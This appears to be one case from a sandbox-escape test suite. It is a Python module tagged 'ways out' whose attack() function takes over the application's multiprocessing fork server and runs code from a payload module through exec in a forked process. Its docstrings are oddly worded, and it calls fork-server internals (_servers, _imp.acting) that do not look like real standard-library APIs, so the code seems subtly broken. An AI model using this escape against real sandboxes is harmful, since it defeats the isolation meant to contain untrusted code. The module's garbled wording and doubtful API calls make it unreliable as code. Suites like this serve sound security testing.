"""A fork server that the application has started is taken for one's own."""
CATEGORY = "ways out"
REACH = "write"
POLICIES = "allow"
POLICY = {"socket": "*"}
GRANT = {"run": True}
BEYOND = """A server of the application's forks for whoever connects to it, and
knows him by nothing but that.  It takes "run" and a module that connects."""

import multiprocessing
from multiprocessing import forkserver

from . import payload


def attack():
    server = [*getattr(forkserver, "_servers", {0: 0}).values()][0]
    if server:
        forkserver._servers = {forkserver._imp.acting(): server}
    context = multiprocessing.get_context("forkserver")
    process = context.Process(target=exec, args=(payload.SOURCE, {}))
    process.start()
    process.join()
